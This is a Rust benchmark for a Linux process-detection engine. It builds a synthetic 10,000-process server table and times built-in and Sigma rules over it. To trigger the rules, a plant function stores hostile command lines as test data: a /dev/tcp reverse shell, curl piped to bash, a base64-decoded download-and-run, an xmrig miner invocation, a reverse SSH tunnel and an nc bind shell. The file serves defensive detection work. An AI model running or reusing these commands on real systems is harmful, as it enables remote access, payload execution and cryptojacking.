//! The detection engine over a 10,000-process scan.
//!
//! `cargo bench -p daemoneye-lib --features detection --bench detection`
//!
//! The data: 10,000 synthetic but realistic `ProcessRecord`s, a server's process table as
//! procmond reports it: `systemd` (pid 1) and `kthreadd` (pid 2), a few hundred kernel
//! threads (no executable, no command line, parent 2), system daemons under `/usr/bin`,
//! `/usr/sbin` and `/usr/lib`, web, database and container workers, login sessions with their
//! shells, cron jobs. Their command lines are 50 to 300 bytes, each executable file has one
//! SHA-256, parents form one tree, pids grow with gaps as on a busy host. Among them, 13
//! planted processes that the built-in rules must report (the bench checks that every rule
//! returns at least one row before measuring, and prints the row counts). `process_events`
//! holds one scan's churn, as the agent loads it: 100 starts and 100 exits, one of them
//! `auditd`; `users` holds 40 accounts.
//!
//! Benchmarks (20 samples over 3 to 5 seconds each; 10 over 10 seconds for Sigma):
//!
//! - `detection/evaluate_core`: `Engine::evaluate`, what the agent does per scan: load the
//!   three tables, then run the 17 built-in rules (`bundles/core-rules/rules`). Target: under
//!   100 ms.
//! - `detection/load`: `Engine::load` alone (the tables replaced in one transaction).
//! - `rule/DE-LNX-00NN`: one built-in rule over the loaded tables (`Engine::query`).
//!   Target: under 5 ms each.
//! - `sigma/evaluate_all`: the 144 vendored Sigma rules (`bundles/sigma-linux/rules`), loaded
//!   and run over the same processes through the `process_creation` view. Informational.
//!
//! Before measuring, one evaluation of each pack is timed rule by rule and the slowest rules
//! are printed, so that a regression names its rule.

// Test and benchmark code: a panic is how it reports a failure.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::hint::black_box;
use std::path::PathBuf;
use std::time::Duration;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use daemoneye_lib::detection::engine::{Engine, RuleRun};
use daemoneye_lib::detection::rules::{self, Rule};
use daemoneye_lib::detection::sandbox::{Dataset, Limits, Sandbox};
use daemoneye_lib::detection::schema::Table;
use daemoneye_lib::models::{EventKind, OnDisk, ProcessEvent, ProcessRecord};

/// Processes in the scan.
const PROCESSES: usize = 10_000;
/// Kernel threads among them.
const KERNEL_THREADS: usize = 240;
/// Starts and exits (each) in `process_events`.
const CHURN: usize = 100;
/// Processes planted for the rules (see `plant`).
const PLANTED: usize = 13;
/// The scan being evaluated.
const SCAN_ID: i64 = 1_000;
/// When the scan was collected (ms since the epoch): 2026-01-01.
const COLLECTED_AT: i64 = 1_767_225_600_000;
/// When the host booted (s since the epoch): 40 days before the scan.
const BOOT: i64 = COLLECTED_AT / 1000 - 40 * 86_400;

/// splitmix64: a fixed, dependency-free pseudo-random sequence, so that every run measures the
/// same data.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// A number in `0..n`.
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }

    fn hex(&mut self, digits: usize) -> String {
        let mut out = String::with_capacity(digits + 16);
        while out.len() < digits {
            out.push_str(&format!("{:016x}", self.next()));
        }
        out.truncate(digits);
        out
    }
}

/// FNV-1a, to derive a file's stable SHA-256 stand-in and inode from its path.
fn fnv(text: &str) -> u64 {
    text.bytes().fold(0xcbf2_9ce4_8422_2325, |hash, byte| {
        (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3)
    })
}

/// A 64-hex-digit digest standing for the SHA-256 of `path` (its `variant`).
fn digest(path: &str, variant: u64) -> String {
    let mut rng = Rng(fnv(path) ^ variant);
    rng.hex(64)
}

/// Options appended to a command line until it reaches its drawn length.
const PADDING: &[&str] = &[
    "--log-level=info",
    "--log-format=json",
    "--pid-file=/run/{n}/{n}.pid",
    "--config=/etc/{n}/{n}.conf",
    "--data-dir=/var/lib/{n}",
    "--cache-dir=/var/cache/{n}",
    "--metrics-address=127.0.0.1:9{k}",
    "--listen=0.0.0.0:8{k}",
    "--instance-id={u}",
    "--shard={k}",
    "--max-connections=1024",
    "--timeout=30s",
    "--user={n}",
    "--tls-cert=/etc/ssl/certs/{n}.pem",
    "--tls-key=/etc/ssl/private/{n}.key",
    "--env=production",
    "--region=eu-west-1",
    "--cluster=prod-eu-{k}",
];

/// A user-space program of the synthetic host.
#[derive(Clone, Copy)]
struct Program {
    name: &'static str,
    path: &'static str,
    /// Command line before padding; `{k}` is replaced by a small number, `{u}` by a UUID.
    args: &'static str,
    uid: u32,
}

const fn program(name: &'static str, path: &'static str, args: &'static str, uid: u32) -> Program {
    Program {
        name,
        path,
        args,
        uid,
    }
}

/// System daemons, each a child of systemd, one process each.
const DAEMONS: &[Program] = &[
    program(
        "systemd-journal",
        "/usr/lib/systemd/systemd-journald",
        "/usr/lib/systemd/systemd-journald",
        0,
    ),
    program(
        "systemd-udevd",
        "/usr/lib/systemd/systemd-udevd",
        "/usr/lib/systemd/systemd-udevd",
        0,
    ),
    program(
        "systemd-network",
        "/usr/lib/systemd/systemd-networkd",
        "/usr/lib/systemd/systemd-networkd",
        998,
    ),
    program(
        "systemd-resolve",
        "/usr/lib/systemd/systemd-resolved",
        "/usr/lib/systemd/systemd-resolved",
        997,
    ),
    program(
        "systemd-timesyn",
        "/usr/lib/systemd/systemd-timesyncd",
        "/usr/lib/systemd/systemd-timesyncd",
        996,
    ),
    program(
        "systemd-logind",
        "/usr/lib/systemd/systemd-logind",
        "/usr/lib/systemd/systemd-logind",
        0,
    ),
    program(
        "dbus-daemon",
        "/usr/bin/dbus-daemon",
        "@dbus-daemon --system --address=systemd: --nofork --nopidfile --systemd-activation --syslog-only",
        101,
    ),
    program(
        "rsyslogd",
        "/usr/sbin/rsyslogd",
        "/usr/sbin/rsyslogd -n -iNONE",
        102,
    ),
    program("cron", "/usr/sbin/cron", "/usr/sbin/cron -f -P", 0),
    program("auditd", "/usr/sbin/auditd", "/sbin/auditd", 0),
    program(
        "polkitd",
        "/usr/lib/polkit-1/polkitd",
        "/usr/lib/polkit-1/polkitd --no-debug",
        103,
    ),
    program(
        "chronyd",
        "/usr/sbin/chronyd",
        "/usr/sbin/chronyd -F 1",
        104,
    ),
    program(
        "irqbalance",
        "/usr/sbin/irqbalance",
        "/usr/sbin/irqbalance --foreground",
        0,
    ),
    program(
        "agetty",
        "/usr/sbin/agetty",
        "/sbin/agetty -o -p -- \\u --noclear tty1 linux",
        0,
    ),
    program(
        "containerd",
        "/usr/bin/containerd",
        "/usr/bin/containerd",
        0,
    ),
    program(
        "dockerd",
        "/usr/bin/dockerd",
        "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock",
        0,
    ),
    program(
        "redis-server",
        "/usr/bin/redis-server",
        "/usr/bin/redis-server 127.0.0.1:6379",
        105,
    ),
    program(
        "node_exporter",
        "/usr/bin/prometheus-node-exporter",
        "/usr/bin/prometheus-node-exporter --collector.systemd --collector.processes",
        65534,
    ),
    program(
        "unattended-upgr",
        "/usr/bin/python3.11",
        "/usr/bin/python3 /usr/share/unattended-upgrades/unattended-upgrade-shutdown --wait-for-signal",
        0,
    ),
];

/// Workers started in bulk under a master process or a container shim.
const WORKERS: &[Program] = &[
    program(
        "gunicorn",
        "/usr/bin/python3.11",
        "/usr/bin/python3.11 /usr/local/bin/gunicorn app.wsgi:application --workers 8 --bind 127.0.0.1:8{k}",
        1001,
    ),
    program(
        "celery",
        "/usr/bin/python3.11",
        "/usr/bin/python3.11 -m celery -A app.worker worker --loglevel=INFO --concurrency=4 -Q default,emails --hostname=worker-{k}@%h",
        1001,
    ),
    program(
        "node",
        "/usr/bin/node",
        "/usr/bin/node --max-old-space-size=2048 /srv/web/dist/server.js --port 3{k}",
        1002,
    ),
    program(
        "java",
        "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
        "/usr/lib/jvm/java-17-openjdk-amd64/bin/java -Xms512m -Xmx2g -XX:+UseG1GC -Dlog4j2.formatMsgNoLookups=true -jar /opt/kafka-connect/connect.jar --worker-id {k}",
        1003,
    ),
    program(
        "php-fpm8.2",
        "/usr/sbin/php-fpm8.2",
        "php-fpm: pool www",
        33,
    ),
    program("sleep", "/usr/bin/sleep", "/usr/bin/sleep 100000", 1004),
    program(
        "ruby",
        "/usr/bin/ruby3.1",
        "/usr/bin/ruby3.1 /srv/sidekiq/bin/sidekiq -C /srv/sidekiq/config/sidekiq.yml -e production -c {k}",
        1005,
    ),
    program(
        "envoy",
        "/usr/bin/envoy",
        "/usr/bin/envoy -c /etc/envoy/envoy.yaml --service-cluster edge --service-node edge-{k}",
        1006,
    ),
    program(
        "uwsgi",
        "/usr/bin/uwsgi-core",
        "/usr/bin/uwsgi --ini /etc/uwsgi/apps-enabled/app.ini --die-on-term --master --processes 4",
        33,
    ),
    program(
        "memcached",
        "/usr/bin/memcached",
        "/usr/bin/memcached -m 64 -p 11211 -u memcache -l 127.0.0.1 -P /var/run/memcached/memcached.pid",
        106,
    ),
];

/// What a login session runs under its shell.
const SESSION: &[Program] = &[
    program(
        "vim",
        "/usr/bin/vim.basic",
        "vim /etc/nginx/sites-available/default",
        1000,
    ),
    program("less", "/usr/bin/less", "less /var/log/syslog", 1000),
    program("top", "/usr/bin/top", "top -d 2", 1000),
    program(
        "tail",
        "/usr/bin/tail",
        "tail -F /var/log/nginx/access.log /var/log/nginx/error.log",
        1000,
    ),
    program(
        "tmux: server",
        "/usr/bin/tmux",
        "tmux new-session -A -s main",
        1000,
    ),
    program(
        "journalctl",
        "/usr/bin/journalctl",
        "journalctl -fu nginx.service --since today",
        1000,
    ),
    program("htop", "/usr/bin/htop", "htop --sort-key PERCENT_CPU", 1000),
    program(
        "sudo",
        "/usr/bin/sudo",
        "sudo -u postgres psql -d appdb",
        1000,
    ),
];

/// Kernel thread names (as `comm` shows them).
const KTHREADS: &[&str] = &[
    "kworker/{c}:{k}-events",
    "kworker/{c}:{k}H-kblockd",
    "kworker/u{k}:{c}-events_unbound",
    "ksoftirqd/{c}",
    "migration/{c}",
    "cpuhp/{c}",
    "rcu_preempt",
    "rcu_tasks_kthread",
    "kcompactd0",
    "khugepaged",
    "kswapd0",
    "jbd2/nvme0n1p{k}-8",
    "irq/{k}-nvme0q{c}",
    "watchdogd",
    "oom_reaper",
    "kauditd",
    "writeback",
    "xfs-buf/dm-{k}",
];

/// The synthetic host, built process by process.
struct Host {
    rng: Rng,
    next_pid: u32,
    records: Vec<ProcessRecord>,
}

impl Host {
    fn new() -> Self {
        Self {
            rng: Rng(0x5eed),
            next_pid: 3,
            records: Vec::with_capacity(PROCESSES + 32),
        }
    }

    fn pid(&mut self) -> u32 {
        // pids grow with gaps, as processes come and go between the ones still alive.
        let pid = self.next_pid;
        self.next_pid += 1 + self.rng.below(4) as u32;
        pid
    }

    fn fill(&mut self, text: &str, name: &str) -> String {
        let k = 1 + self.rng.below(999);
        let c = self.rng.below(2);
        let u = self.rng.hex(32);
        let uuid = format!(
            "{}-{}-{}-{}-{}",
            &u[..8],
            &u[8..12],
            &u[12..16],
            &u[16..20],
            &u[20..]
        );
        text.replace("{k}", &k.to_string())
            .replace("{c}", &c.to_string())
            .replace("{u}", &uuid)
            .replace("{n}", name)
    }

    /// A command line of 50 to 300 bytes: `args`, then options until the drawn length.
    fn cmdline(&mut self, args: &str, name: &str) -> String {
        let mut out = self.fill(args, name);
        let target = 50 + self.rng.below(251) as usize;
        while out.len() < target {
            let option = *self.rng.pick(PADDING);
            let option = self.fill(option, name.split([' ', ':']).next().unwrap_or(name));
            out.push(' ');
            out.push_str(&option);
        }
        if out.len() > 300 {
            out.truncate(300);
        }
        out
    }

    /// A user-space process; returns its pid.
    fn spawn(&mut self, parent: u32, p: Program, cmdline: String, started: i64) -> u32 {
        let pid = self.pid();
        self.push(pid, parent, p, cmdline, started);
        pid
    }

    fn push(&mut self, pid: u32, parent: u32, p: Program, cmdline: String, started: i64) {
        let cpu = match self.rng.below(10) {
            0..=5 => 0.0,
            6..=8 => self.rng.below(300) as f64 / 100.0,
            _ => self.rng.below(4000) as f64 / 100.0,
        };
        let rss = 2_000_000 + self.rng.below(400_000_000);
        let uptime = (COLLECTED_AT / 1000 - started).max(1) as u64;
        let user_time = self.rng.below(uptime * 10 + 1);
        self.records.push(ProcessRecord {
            pid,
            parent: Some(parent),
            name: Some(p.name.to_owned()),
            path: Some(p.path.to_owned()),
            cmdline: Some(cmdline),
            cwd: Some(if p.uid >= 1000 {
                format!("/home/u{}", p.uid)
            } else {
                "/".to_owned()
            }),
            root: Some("/".to_owned()),
            state: Some(if self.rng.below(50) == 0 { "R" } else { "S" }.to_owned()),
            uid: Some(p.uid),
            gid: Some(p.uid),
            euid: Some(p.uid),
            egid: Some(p.uid),
            suid: Some(p.uid),
            sgid: Some(p.uid),
            on_disk: OnDisk::Present,
            resident_size: Some(rss),
            total_size: Some(rss * 4 + 100_000_000),
            user_time: Some(user_time),
            system_time: Some(user_time / 4),
            disk_bytes_read: Some(self.rng.below(1 << 30)),
            disk_bytes_written: Some(self.rng.below(1 << 28)),
            start_time: Some(started),
            pgroup: Some(pid),
            threads: Some(1 + self.rng.below(32) as u32),
            nice: Some(0),
            cgroup_path: Some(format!(
                "/system.slice/{}.service",
                p.name.replace(' ', "-")
            )),
            exe_sha256: Some(digest(p.path, 0)),
            exe_dev: Some(66_305),
            exe_inode: Some(fnv(p.path) % 4_000_000),
            cpu_percent: Some(cpu),
            scan_id: SCAN_ID,
            collected_at: COLLECTED_AT,
        });
    }

    fn kernel_thread(&mut self, name: &str) {
        let pid = self.pid();
        let name = self.fill(name, "");
        self.records.push(ProcessRecord {
            pid,
            parent: Some(2),
            name: Some(name),
            cwd: Some("/".to_owned()),
            root: Some("/".to_owned()),
            state: Some(if self.rng.below(3) == 0 { "S" } else { "I" }.to_owned()),
            uid: Some(0),
            gid: Some(0),
            euid: Some(0),
            egid: Some(0),
            suid: Some(0),
            sgid: Some(0),
            on_disk: OnDisk::Unknown,
            resident_size: Some(0),
            total_size: Some(0),
            user_time: Some(0),
            system_time: Some(self.rng.below(100_000)),
            start_time: Some(BOOT + self.rng.below(3) as i64),
            pgroup: Some(0),
            threads: Some(1),
            nice: Some(if self.rng.below(4) == 0 { -20 } else { 0 }),
            cgroup_path: Some("/".to_owned()),
            cpu_percent: Some(0.0),
            scan_id: SCAN_ID,
            collected_at: COLLECTED_AT,
            ..ProcessRecord::default()
        });
    }

    fn started(&mut self, after_boot: i64) -> i64 {
        BOOT + after_boot + self.rng.below(3_000_000) as i64
    }
}

/// The records of the scan and its events.
fn scan() -> (Vec<ProcessRecord>, Vec<ProcessEvent>) {
    let mut host = Host::new();
    let systemd = program(
        "systemd",
        "/usr/lib/systemd/systemd",
        "/sbin/init splash",
        0,
    );
    host.push(
        1,
        0,
        systemd,
        "/sbin/init splash --system --deserialize=31".to_owned(),
        BOOT,
    );
    host.kernel_thread("kthreadd");
    host.records[1].pid = 2;
    host.records[1].parent = Some(0);
    for _ in 0..KERNEL_THREADS {
        let name = *host.rng.pick(KTHREADS);
        host.kernel_thread(name);
    }

    for &daemon in DAEMONS {
        let cmdline = host.cmdline(daemon.args, daemon.name);
        host.spawn(1, daemon, cmdline, BOOT + 5);
    }
    let sshd = program(
        "sshd",
        "/usr/sbin/sshd",
        "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
        0,
    );
    let cmdline = host.cmdline(sshd.args, "sshd");
    let sshd_pid = host.spawn(1, sshd, cmdline, BOOT + 5);
    let nginx = program(
        "nginx",
        "/usr/sbin/nginx",
        "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;",
        0,
    );
    let cmdline = host.cmdline(nginx.args, "nginx");
    let nginx_pid = host.spawn(1, nginx, cmdline, BOOT + 6);
    let nginx_worker = program("nginx", "/usr/sbin/nginx", "nginx: worker process", 33);
    let mut nginx_workers = Vec::new();
    for _ in 0..16 {
        let cmdline = host.cmdline(nginx_worker.args, "nginx");
        let started = host.started(10);
        nginx_workers.push(host.spawn(nginx_pid, nginx_worker, cmdline, started));
    }
    let postgres = program(
        "postgres",
        "/usr/lib/postgresql/16/bin/postgres",
        "/usr/lib/postgresql/16/bin/postgres -D /var/lib/postgresql/16/main -c config_file=/etc/postgresql/16/main/postgresql.conf",
        107,
    );
    let cmdline = host.cmdline(postgres.args, "postgres");
    let postgres_pid = host.spawn(1, postgres, cmdline, BOOT + 7);
    for _ in 0..120 {
        let client = format!(
            "postgres: 16/main: app appdb 10.0.3.{}({}) idle",
            host.rng.below(250),
            30_000 + host.rng.below(30_000)
        );
        let cmdline = host.cmdline(&client, "postgres");
        let started = host.started(100);
        host.spawn(postgres_pid, postgres, cmdline, started);
    }
    let shim = program(
        "containerd-shim",
        "/usr/bin/containerd-shim-runc-v2",
        "/usr/bin/containerd-shim-runc-v2 -namespace moby -id {u}{u} -address /run/containerd/containerd.sock",
        0,
    );
    let bash = program("bash", "/usr/bin/bash", "-bash", 1000);
    let session = program(
        "sshd-session",
        "/usr/lib/openssh/sshd-session",
        "sshd-session: alice@pts/{k}",
        1000,
    );
    let cron_sh = program(
        "sh",
        "/usr/bin/dash",
        "/bin/sh -c /usr/local/bin/backup.sh --target s3://backups/{k} --compress zstd",
        0,
    );

    // The rest: containers of workers, login sessions, cron jobs, until the table is full
    // but for the planted processes (added next; auditd then leaves) and the CHURN newest.
    let mut shims = Vec::new();
    let established = PROCESSES - CHURN - PLANTED + 1;
    while host.records.len() < established {
        match host.rng.below(20) {
            0 => {
                let cmdline = host.cmdline(session.args, "sshd");
                let started = host.started(1000);
                let s = host.spawn(sshd_pid, session, cmdline, started);
                let cmdline = host.cmdline(bash.args, "bash");
                let b = host.spawn(s, bash, cmdline, started + 1);
                for _ in 0..1 + host.rng.below(3) {
                    let p = *host.rng.pick(SESSION);
                    let cmdline = host.cmdline(p.args, p.name);
                    host.spawn(b, p, cmdline, started + 10);
                }
            }
            1 => {
                let cmdline = host.cmdline(cron_sh.args, "backup");
                let started = host.started(2000);
                host.spawn(1, cron_sh, cmdline, started);
            }
            _ => {
                let cmdline = host.cmdline(shim.args, "containerd");
                let started = host.started(500);
                let parent = host.spawn(1, shim, cmdline, started);
                shims.push(parent);
                let worker = *host.rng.pick(WORKERS);
                for _ in 0..4 + host.rng.below(40) {
                    let cmdline = host.cmdline(worker.args, worker.name);
                    host.spawn(parent, worker, cmdline, started + 2);
                }
            }
        }
    }
    host.records.truncate(established);
    // A shim cut off by the truncation has no place in the tree.
    shims.retain(|&pid| host.records.iter().any(|r| r.pid == pid));
    plant(&mut host, nginx_workers[3]);
    assert_eq!(host.records.len(), established + PLANTED);

    // Processes that exited since the previous scan. The first is planted for DE-LNX-0017:
    // auditd stopped, and no auditd started since.
    let mut events = Vec::new();
    let auditd = host
        .records
        .iter()
        .position(|r| r.name.as_deref() == Some("auditd"))
        .expect("auditd runs");
    let mut exited = vec![host.records.remove(auditd)];
    // Workers start and exit in the containers.
    let live = shims.len() as u64;
    while exited.len() < CHURN {
        let worker = *host.rng.pick(WORKERS);
        let cmdline = host.cmdline(worker.args, worker.name);
        let parent = shims[host.rng.below(live) as usize];
        let started = host.started(1000);
        host.spawn(parent, worker, cmdline, started);
        exited.extend(host.records.pop());
    }
    // The newest processes, seen for the first time: no CPU percent yet.
    let first_new = host.records.len();
    while host.records.len() < PROCESSES {
        let worker = *host.rng.pick(WORKERS);
        let cmdline = host.cmdline(worker.args, worker.name);
        let parent = shims[host.rng.below(live) as usize];
        host.spawn(parent, worker, cmdline, COLLECTED_AT / 1000 - 5);
    }
    assert_eq!(host.records.len() - first_new, CHURN);
    for record in &mut host.records[first_new..] {
        record.cpu_percent = None;
        events.push(ProcessEvent {
            event: EventKind::Start,
            record: record.clone(),
            observed_at: COLLECTED_AT,
        });
    }
    events.extend(exited.into_iter().map(|record| ProcessEvent {
        event: EventKind::Exit,
        record,
        observed_at: COLLECTED_AT,
    }));
    assert_eq!(host.records.len(), PROCESSES);
    (host.records, events)
}

/// The planted processes: each built-in rule reports at least one of them.
fn plant(host: &mut Host, nginx_worker: u32) {
    let mut add = |name: &'static str, path: &'static str, cmdline: &str, uid: u32, parent: u32| {
        let started = COLLECTED_AT / 1000 - 600;
        let p = program(name, path, "", uid);
        host.spawn(parent, p, cmdline.to_owned(), started)
    };
    // DE-LNX-0001: a daemon still running after an upgrade replaced its binary.
    let upgraded = add(
        "rsyslogd",
        "/usr/sbin/rsyslogd",
        "/usr/sbin/rsyslogd -n -iNONE",
        0,
        1,
    );
    // DE-LNX-0002, 0003, 0004: a fake kernel thread run from a hidden directory under /tmp.
    add(
        "kworker",
        "/tmp/.ICE-unix/.x/kworker",
        "[kworker/0:2] 60",
        1000,
        1,
    );
    // DE-LNX-0005: sshd from a temporary directory.
    add("sshd", "/dev/shm/sshd", "/dev/shm/sshd -D -p 2222", 1000, 1);
    // DE-LNX-0006 and 0007: a reverse shell spawned by an nginx worker.
    add(
        "bash",
        "/usr/bin/bash",
        "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        33,
        nginx_worker,
    );
    // DE-LNX-0008: download piped into a shell.
    add(
        "sh",
        "/usr/bin/dash",
        "sh -c curl -fsSL http://203.0.113.7/install.sh | bash",
        1000,
        1,
    );
    // DE-LNX-0009: base64-decoded payload.
    add(
        "sh",
        "/usr/bin/dash",
        "sh -c echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo | base64 -d | bash",
        1000,
        1,
    );
    // DE-LNX-0010: an nginx binary unlike the others.
    let odd_nginx = add("nginx", "/usr/sbin/nginx", "nginx: worker process", 33, 1);
    // DE-LNX-0011: setuid root from /opt.
    let suid = add(
        "helper",
        "/opt/vendor/bin/helper",
        "/opt/vendor/bin/helper --install-driver",
        1000,
        1,
    );
    // DE-LNX-0012: a miner.
    add(
        "xmrig",
        "/home/u1000/.local/bin/xmrig",
        "xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge --donate-level 1",
        1000,
        1,
    );
    // DE-LNX-0013: a reverse SSH tunnel.
    add(
        "ssh",
        "/usr/bin/ssh",
        "ssh -f -N -R 9000:localhost:22 tunnel@203.0.113.7 -o ServerAliveInterval=30",
        1000,
        1,
    );
    // DE-LNX-0014: root from /tmp, orphaned.
    add(
        "updater",
        "/var/tmp/updater",
        "/var/tmp/updater --daemon --interval 300",
        0,
        1,
    );
    // DE-LNX-0015: one core saturated.
    let busy = add(
        "ffmpeg",
        "/usr/bin/ffmpeg",
        "ffmpeg -i /srv/media/in/talk.mkv -c:v libx264 -preset slow /srv/media/out/talk.mp4",
        1000,
        1,
    );
    // DE-LNX-0016: a bind shell.
    add(
        "nc",
        "/usr/bin/nc.traditional",
        "nc -lvnp 4444 -e /bin/sh",
        1000,
        1,
    );

    for record in host.records.iter_mut().rev().take(16) {
        if record.pid == upgraded {
            record.on_disk = OnDisk::Gone;
        } else if record.pid == odd_nginx {
            record.exe_sha256 = Some(digest("/usr/sbin/nginx", 1));
        } else if record.pid == suid {
            record.euid = Some(0);
            record.suid = Some(0);
        } else if record.pid == busy {
            record.cpu_percent = Some(99.6);
        }
    }
}

/// Accounts for the `users` table.
fn users() -> Vec<(u32, String)> {
    let system = [
        (0, "root"),
        (1, "daemon"),
        (2, "bin"),
        (3, "sys"),
        (33, "www-data"),
        (65534, "nobody"),
        (101, "messagebus"),
        (102, "syslog"),
        (103, "polkitd"),
        (104, "_chrony"),
        (105, "redis"),
        (106, "memcache"),
        (107, "postgres"),
        (996, "systemd-timesync"),
        (997, "systemd-resolve"),
        (998, "systemd-network"),
    ];
    let mut out: Vec<(u32, String)> = system
        .iter()
        .map(|(uid, name)| (*uid, (*name).to_owned()))
        .collect();
    out.extend((1000..1024).map(|uid| (uid, format!("user{uid}"))));
    out
}

fn load_pack(dir: &str) -> Vec<Rule> {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("..")
        .join(dir);
    let sandbox = Sandbox::new(Limits::default()).expect("a sandbox");
    let loaded = rules::load_paths(&[path], &sandbox);
    assert!(
        loaded.diagnostics.is_empty(),
        "{dir}: {:?}",
        loaded.diagnostics
    );
    loaded.rules
}

/// Times one evaluation rule by rule and prints the slowest `show` rules and the row counts.
fn report(label: &str, engine: &mut Engine, data: &Dataset<'_>, show: usize) -> Vec<RuleRun> {
    let runs = engine.evaluate(data).expect("the data loads");
    let mut by_time: Vec<&RuleRun> = runs.iter().collect();
    by_time.sort_by_key(|run| std::cmp::Reverse(run.elapsed));
    let total: Duration = runs.iter().map(|run| run.elapsed).sum();
    let matched = runs
        .iter()
        .filter(|run| run.outcome.as_ref().is_ok_and(|r| !r.rows.is_empty()))
        .count();
    eprintln!(
        "{label}: {} rules, {matched} with rows, rules alone {:.2} ms in one evaluation; slowest:",
        runs.len(),
        total.as_secs_f64() * 1000.0
    );
    for run in by_time.iter().take(show) {
        let rule = &engine.rules()[run.rule];
        let rows = run
            .outcome
            .as_ref()
            .map_or_else(|e| format!("error: {e}"), |r| r.rows.len().to_string());
        eprintln!(
            "  {:<48} {:>8.3} ms  rows {rows}",
            rule.id.as_str(),
            run.elapsed.as_secs_f64() * 1000.0
        );
    }
    runs
}

fn benches(c: &mut Criterion) {
    let (records, events) = scan();
    let users = users();
    let data = Dataset {
        processes: Some(&records),
        events: Some(&events),
        users: Some(&users),
        ..Dataset::default()
    };
    let core = load_pack("bundles/core-rules/rules");
    assert_eq!(core.len(), 17, "the built-in pack");
    let sigma = load_pack("bundles/sigma-linux/rules");
    assert_eq!(sigma.len(), 144, "the vendored Sigma rules");

    let mut engine = Engine::new(core, Limits::default()).expect("an engine");
    for run in report("core rules", &mut engine, &data, 17) {
        let rule = &engine.rules()[run.rule];
        let result = run.outcome.unwrap_or_else(|e| panic!("{}: {e}", rule.id));
        assert!(!result.rows.is_empty(), "{} matched nothing", rule.id);
    }
    let mut sigma_engine = Engine::new(sigma, Limits::default()).expect("an engine");
    report("sigma rules", &mut sigma_engine, &data, 10);

    let mut group = c.benchmark_group("detection");
    group
        .sample_size(20)
        .warm_up_time(Duration::from_secs(1))
        .measurement_time(Duration::from_secs(5))
        .throughput(Throughput::Elements(PROCESSES as u64));
    group.bench_function("evaluate_core", |b| {
        b.iter(|| black_box(engine.evaluate(black_box(&data)).expect("loads")));
    });
    group.bench_function("load", |b| {
        b.iter(|| engine.load(black_box(&data)).expect("loads"));
    });
    group.finish();

    engine.load(&data).expect("loads");
    let mut group = c.benchmark_group("rule");
    group
        .sample_size(20)
        .warm_up_time(Duration::from_secs(1))
        .measurement_time(Duration::from_secs(3));
    for rule in engine.rules() {
        let reads_events = rule.sql.tables().contains(&Table::ProcessEvents);
        let elements = if reads_events {
            events.len()
        } else {
            PROCESSES
        };
        group.throughput(Throughput::Elements(elements as u64));
        group.bench_function(rule.id.as_str(), |b| {
            b.iter(|| black_box(engine.query(&rule.sql).expect("runs")));
        });
    }
    group.finish();

    let mut group = c.benchmark_group("sigma");
    group
        .sample_size(10)
        .warm_up_time(Duration::from_secs(1))
        .measurement_time(Duration::from_secs(10))
        .throughput(Throughput::Elements(PROCESSES as u64));
    group.bench_function("evaluate_all", |b| {
        b.iter(|| black_box(sigma_engine.evaluate(black_box(&data)).expect("loads")));
    });
    group.finish();
}

criterion_group!(detection, benches);
criterion_main!(detection);
